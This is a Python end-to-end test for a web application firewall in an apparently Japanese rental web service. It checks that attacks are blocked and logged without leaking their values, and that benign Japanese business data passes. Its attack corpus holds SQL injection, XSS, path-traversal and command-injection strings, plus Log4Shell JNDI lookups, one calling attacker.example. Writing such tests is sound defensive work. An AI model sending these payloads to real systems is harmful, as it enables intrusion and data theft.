#!/usr/bin/env python3
# SPDX-License-Identifier: ISC
"""test_waf.py — the WAF (src/waf) on rentport's real routes, end to end.

Against a demo-seeded `rentport serve` in its default configuration (WAF
in block mode at paranoia level 1):
  * the attack corpus (SQL injection, XSS, path traversal, command
    injection, Log4Shell-style lookups, scanner user agents) gets 403 with
    the ja or en "blocked" page showing the request id, on every kind of
    route (pages, forms, API, static, health, unknown paths), and each
    block is one security event line naming rule ids — without the
    request's values;
  * the benign corpus of Japanese business data (names in kanji, kana and
    romaji, company names, addresses with full-width digits, everyday
    notes) sent through the order form (with CSRF) and the API gets no 403
    and no security event at all;
then in detect mode (logs, never blocks) and off (does nothing).
Python standard library only; TAP output.
"""
import json
import os
import sys
import time
import urllib.parse

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "site"))
import sitelib  # noqa: E402
from sitelib import SiteServer, Client, Tap, order_fields  # noqa: E402

T = Tap()
ok = T.ok
CORP = "/c/shinonome-shoji/"

# ---- corpora -------------------------------------------------------------

# (what, method, path, form fields or None, extra headers)
ATTACKS = [
    ("SQLi in the catalog query", "GET",
     "/plans?destination=" + urllib.parse.quote("' OR 1=1--"), None, {}),
    ("SQLi UNION in the catalog query", "GET",
     "/plans?destination=" + urllib.parse.quote(
         "US' UNION SELECT password FROM users--"), None, {}),
    ("XSS in the order form's name", "POST", "/order",
     {"name": "<script>alert(document.cookie)</script>"}, {}),
    ("XSS (img onerror) in the corporate form's department", "POST",
     CORP + "order", {"department": '"><img src=x onerror=alert(1)>'}, {}),
    ("path traversal in a static path", "GET",
     "/static/..%2f..%2fetc/passwd", None, {}),
    ("path traversal in the query", "GET",
     "/plans?destination=../../../../etc/passwd", None, {}),
    ("command injection (; cat) in the form", "POST", "/order",
     {"address": "; cat /etc/passwd"}, {}),
    ("command injection $(id) in the query", "GET",
     "/quote?plan=" + urllib.parse.quote("$(id)"), None, {}),
    ("Log4Shell lookup in the query", "GET",
     "/plans?destination=" + urllib.parse.quote("${jndi:ldap://x/a}"),
     None, {}),
    ("Log4Shell lookup in the User-Agent", "GET", "/plans",
     None, {"User-Agent": "${jndi:ldap://attacker.example/a}"}),
    ("Log4Shell lookup in the form", "POST", "/order",
     {"name": "${jndi:ldap://x/a}"}, {}),
    ("sqlmap user agent", "GET", "/", None,
     {"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}),
    ("nikto user agent", "GET", "/healthz", None,
     {"User-Agent": "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) "
                    "(Test:Port Check)"}),
    ("Nmap NSE user agent", "GET", "/robots.txt", None,
     {"User-Agent": "Mozilla/5.0 (compatible; Nmap Scripting Engine; "
                    "https://nmap.org/book/nse.html)"}),
    ("SQLi on an unknown path (no handler answers first)", "GET",
     "/no-such-page?id=" + urllib.parse.quote("1' OR '1'='1"), None, {}),
    ("SQLi in a body sent to a GET-only route (405 waits for the WAF)",
     "POST", "/healthz", {"q": "1 UNION SELECT * FROM information_schema"},
     {}),
    ("SQLi in the API's JSON", "POST", "/api/v1/quotes",
     {"__json__": {"plan": "' OR 1=1--", "departure": "2030-01-01"}}, {}),
]

# Values the security log must never contain (they are in the attacks).
SECRETS = ["1=1", "passwd", "jndi", "<script", "onerror", "UNION", "sqlmap",
           "Nikto", "information_schema", "$(id)", "ldap"]

NAMES = [
    ("山田 太郎", "ヤマダ タロウ"), ("佐藤 花子", "サトウ ハナコ"),
    ("髙橋 一郎", "タカハシ イチロウ"), ("渡邊 さくら", "ワタナベ サクラ"),
    ("O'Brien", "オブライエン"), ("Jean-Luc d'Arc", "ジャンリュック ダルク"),
    ("Mary-Jane O'Connor", "メアリージェーン オコナー"),
    ("Tanaka, Hiroshi", "タナカ ヒロシ"), ("José García", "ホセ ガルシア"),
    ("ヤマダ タロウ", "ヤマダ タロウ"), ("やまだ たろう", "ヤマダ タロウ"),
    ("Yamada Taro", "ヤマダ タロウ"),
]
COMPANIES = [
    "株式会社しののめ商事", "(株)サンプル", "㈱テスト", "有限会社ABC",
    "合同会社XYZ", "ｶﾌﾞｼｷｶﾞｲｼｬ", "Smith & Co.", "Northwind Traders Inc.",
    "株式会社サンプル商事 営業部", "ユーザー社 システム本部", "（株）ルーター",
    "Procter & Gamble Japan K.K.", "AT&T Japan合同会社",
    "一般社団法人 日本旅行協会", "Müller & Söhne GmbH",
]
ADDRESSES = [
    "東京都港区芝公園４－２－８", "大阪市北区梅田1-1-3 ABCビル 2F",
    "東京都千代田区千代田1-1", "北海道札幌市中央区北1条西2丁目",
    "福岡県福岡市博多区博多駅前２丁目１−１", "京都府京都市下京区烏丸通七条下ル",
    "沖縄県那覇市泉崎１丁目２番２号", "1-2-3 Shibakoen, Minato-ku, Tokyo",
    "Room #305, 4-5-6 Nishi-Shinjuku, Shinjuku-ku",
    "神奈川県横浜市西区みなとみらい２－３－１ クイーンズタワーＡ ２０階",
    "〒105-0011 東京都港区芝公園1-1 株式会社しののめ商事 気付",
]
NOTES = [
    "Select the unlimited plan from July; update me by e-mail.",
    "7月から無制限プランを選択してください。メールでご連絡ください。",
    "Please deliver before 10:00 a.m. - thanks!",
    "出張のため、成田空港で受け取ります。よろしくお願いします。",
    "Drop-off at Haneda T3; if late, call 090-1234-5678.",
    "「至急」対応をお願いいたします（部長承認済み）",
    "Budget code: 2024/Q3 - marketing & sales",
    "Where is the counter? Select the nearest one, please.",
    "100% of the cost is covered by the project (see order #12).",
    "海外出張（ニューヨーク・ボストン）用。請求書は経理部宛てにお願いします。",
    "Update: we need two routers instead of one; drop the old order.",
    "Please call me or e-mail; I am out of office from 1 to 5 May.",
]


def benign_forms():
    """Order-form submissions: (home, fields)."""
    out = []
    for i, (name, kana) in enumerate(NAMES):
        out.append((CORP if i % 2 else "/", order_fields(
            corporate=bool(i % 2), name=name, kana=kana,
            address=ADDRESSES[i % len(ADDRESSES)],
            postal_code="105-0011")))
    for i, c in enumerate(COMPANIES):
        out.append((CORP, order_fields(corporate=True, department=c,
                                       address=ADDRESSES[(i + 3) %
                                                         len(ADDRESSES)])))
    for i, n in enumerate(NOTES):
        out.append((CORP, order_fields(corporate=True, department=n,
                                       cost_centre="CC-%d" % (100 + i))))
    for a in ADDRESSES:
        out.append(("/", order_fields(address=a, postal_code="530-0001")))
    return out


def benign_api():
    """API order bodies (traveller fields carry the corpus)."""
    out = []
    rows = list(zip(NAMES, COMPANIES + COMPANIES, NOTES + NOTES))
    for (name, kana), company, note in rows:
        out.append({"name": name, "kana": kana,
                    "email": "taro+shop@example.jp", "phone": "090-1234-5678",
                    "department": company if len(out) % 2 else note,
                    "address": ADDRESSES[len(out) % len(ADDRESSES)]})
    return out


# ---- helpers -------------------------------------------------------------

def security_lines(srv):
    p = os.path.join(srv.data_dir, "log", "security.log")
    try:
        with open(p, encoding="utf-8") as f:
            return [json.loads(x) for x in f if x.strip()]
    except FileNotFoundError:
        return []


def event_for(srv, rid, timeout=5.0):
    """The security event of request rid (written at request completion)."""
    deadline = time.time() + timeout
    while True:
        for e in security_lines(srv):
            if e.get("request_id") == rid:
                return e
        if time.time() > deadline:
            return None
        time.sleep(0.05)


def send(srv, c, method, path, fields, headers):
    if method == "GET":
        return c.get(path, headers=headers)
    if fields and "__json__" in fields:
        body = json.dumps(fields["__json__"]).encode()
        h = {"Content-Type": "application/json",
             "Authorization": "Bearer " + srv.api_keys["shinonome-shoji"]}
        h.update(headers)
        return c.request("POST", path, body=body, headers=h)
    home = CORP if path.startswith(CORP) else "/"
    if path.endswith("order"):
        f = order_fields(corporate=home == CORP)
        f = [(k, fields.get(k, v)) for k, v in f] + \
            [(k, v) for k, v in fields.items() if k not in dict(f)]
    else:
        f = list(fields.items())
    return c.post(path, f, headers=headers)


def api_order(srv, c, traveller, n):
    dep = sitelib.day(20)
    ret = sitelib.day(26)
    body = {"plan": "US-R-1G", "departure": dep, "return": ret,
            "pickup": {"method": "counter", "counter": "NRT1"},
            "dropoff": {"method": "counter", "counter": "NRT1"},
            "traveller": traveller, "billing": "invoice"}
    h = {"Content-Type": "application/json",
         "Authorization": "Bearer " + srv.api_keys["shinonome-shoji"],
         "Idempotency-Key": "waf-benign-%d-%d" % (os.getpid(), n)}
    return c.request("POST", "/api/v1/orders",
                     body=json.dumps(body, ensure_ascii=False).encode(),
                     headers=h)


# ---- the modes -----------------------------------------------------------

def block_mode(srv):
    en = Client(srv, accept_language="en")
    ja = Client(srv)
    blocked_ids = []
    for i, (what, method, path, fields, headers) in enumerate(ATTACKS):
        c = en if i % 2 else ja
        r = send(srv, c, method, path, fields, headers)
        rid = r.header("x-request-id") or ""
        body = r.body.decode("utf-8", "replace")
        if path.startswith("/api/"):
            # the API's own error shape
            try:
                j = json.loads(body)["error"]
                page_ok = j["code"] == "blocked" and j["request_id"] == rid \
                    and j["message"]["ja"] and j["message"]["en"]
            except (ValueError, KeyError, TypeError):
                page_ok = False
        else:
            page_ok = ('id="request-id">%s</code>' % rid) in body and rid \
                and (("Request blocked" in body) if c is en else
                     ("リクエストをお受けできません" in body))
        ok(r.status == 403 and page_ok,
           "attack blocked with the %s page (API: JSON) and its request id: "
           "%s (%s)" % ("en" if c is en else "ja", what, r.status))
        ev = event_for(srv, rid)
        ok(ev is not None and ev["action"] == "block" and ev["rules"] and
           ev["status"] == 403 and ev["client"] == "127.0.0.1" and
           ev["score"] >= 5,
           "security event with rule ids, score, client: %s %s" %
           (what, ev and ev["rules"]))
        blocked_ids.append(rid)
    with open(os.path.join(srv.data_dir, "log", "security.log"),
              encoding="utf-8") as f:
        text = f.read()
    leaked = [s for s in SECRETS if s.lower() in text.lower()]
    ok(not leaked, "security log holds no request values (%s)" % leaked)
    ok(all(set(e) == {"time", "event", "action", "request_id", "method",
                      "route", "client", "status", "phase", "score",
                      "threshold", "paranoia", "over_threshold", "matches",
                      "rules"} for e in security_lines(srv)),
       "security events have exactly the documented fields")

    # Intake's own refusals still answer when the WAF has nothing to say,
    # and a body over a body route's cap is refused from its length alone.
    r = ja.get("/no-such-page")
    ok(r.status == 404, "block mode: a plain unknown path → 404 (%d)"
       % r.status)
    r = ja.request("POST", "/healthz", body=b"lang=ja")
    ok(r.status == 405 and r.header("allow") == "GET, HEAD",
       "block mode: a benign POST to a GET route → 405 after the body phase")
    r = srv.raw(b"POST /lang HTTP/1.1\r\nHost: localhost\r\n"
                b"Content-Length: 5000\r\nConnection: close\r\n\r\n")
    ok(r.status == 413, "block mode: over a route's cap → 413 from "
       "Content-Length, body not awaited (%d)" % r.status)
    r = srv.raw(b"GET /a/../etc/passwd HTTP/1.1\r\nHost: localhost\r\n"
                b"Connection: close\r\n\r\n")
    ok(r.status == 403, "block mode: a dot-segment path to /etc/passwd → "
       "403 from the WAF before intake's 400 (%d)" % r.status)

    # The benign corpus: zero 403s, zero events.
    n = 0
    bad = []
    rids = set()
    statuses = {}
    for home, fields in benign_forms():
        c = Client(srv, accept_language="ja" if n % 2 else "en")
        r = c.post(home + "order", fields)
        rids.add(r.header("x-request-id"))
        n += 1
        statuses[r.status] = statuses.get(r.status, 0) + 1
        if r.status == 403:
            bad.append((dict(fields).get("name"), dict(fields).get(
                "department"), dict(fields).get("address"),
                r.header("x-request-id")))
    c = Client(srv)
    for i, t in enumerate(benign_api()):
        r = api_order(srv, c, t, i)
        rids.add(r.header("x-request-id"))
        n += 1
        statuses[r.status] = statuses.get(r.status, 0) + 1
        if r.status == 403:
            bad.append((t, r.header("x-request-id")))
    for q in ("/plans?destination=US", "/plans?destination=JP&device=router",
              "/plans?destination=US&lang=en", "/order?plan=US-R-1G&qty=1"):
        r = c.get(q)
        rids.add(r.header("x-request-id"))
        n += 1
        statuses[r.status] = statuses.get(r.status, 0) + 1
        if r.status == 403:
            bad.append((q, r.header("x-request-id")))
    time.sleep(0.2)     # events are written at request completion
    events = [e for e in security_lines(srv) if e["request_id"] in rids]
    for b in bad:
        rid = b[-1]
        ev = [e for e in events if e["request_id"] == rid]
        print("# false positive: %r rules %s" % (b[:-1], ev and
                                                   ev[0]["rules"]))
    ok(n >= 40, "benign corpus: %d submissions (forms, API, catalog)" % n)
    ok(not bad, "benign corpus: zero 403s (statuses %s)" % statuses)
    ok(not events, "benign corpus: zero security events (%d)" % len(events))
    ok(statuses.get(500, 0) == 0, "benign corpus: no 500s")


def detect_mode():
    with SiteServer(args=["--waf-mode=detect"]) as srv:
        c = Client(srv)
        r = c.get("/plans?destination=" + urllib.parse.quote("' OR 1=1--"))
        rid = r.header("x-request-id")
        ok(r.status == 200, "detect mode: the attack is not blocked (%d)"
           % r.status)
        ev = event_for(srv, rid)
        ok(ev is not None and ev["action"] == "detect" and
           ev["over_threshold"] and 942100 in ev["rules"],
           "detect mode: logged as a detection with its rules")
        r = c.get("/plans?destination=US")
        ok(r.status == 200 and event_for(srv, r.header("x-request-id"),
                                         0.3) is None,
           "detect mode: a benign request leaves no event")


def off_mode():
    with SiteServer(args=["--waf-mode=off"]) as srv:
        c = Client(srv)
        r = c.get("/plans?destination=" + urllib.parse.quote("' OR 1=1--"))
        ok(r.status == 200, "off: the attack reaches the handler (%d)"
           % r.status)
        r = c.get("/no-such-page?id=" + urllib.parse.quote("1' OR '1'='1"))
        ok(r.status == 404, "off: an unknown path answers 404 at once")
        # What the WAF stops in block mode reaches the handler here: the
        # echo of the order form is HTML-escaped all the same.
        evil = '<script>alert("x")</script>'
        r = c.post("/order", order_fields(name=evil, phone="abc"))
        t = r.body.decode("utf-8", "replace")
        ok(r.status == 422 and "<script>alert" not in t and
           "&lt;script&gt;alert(" in t,
           "off: a name with <script> comes back escaped, never raw")
        time.sleep(0.2)
        ok(not security_lines(srv), "off: no security events")
        ok(not os.path.exists(os.path.join(srv.data_dir, "waf")),
           "off: no rules written")


def main():
    with SiteServer() as srv:
        r = Client(srv).get("/healthz")
        ok(r.status == 200, "serve starts with the WAF on by default")
        ok(os.path.exists(os.path.join(srv.data_dir, "waf", "main.conf")),
           "the embedded rules are written to DATA/waf/")
        block_mode(srv)
    detect_mode()
    off_mode()
    return T.done()


if __name__ == "__main__":
    sys.exit(main())
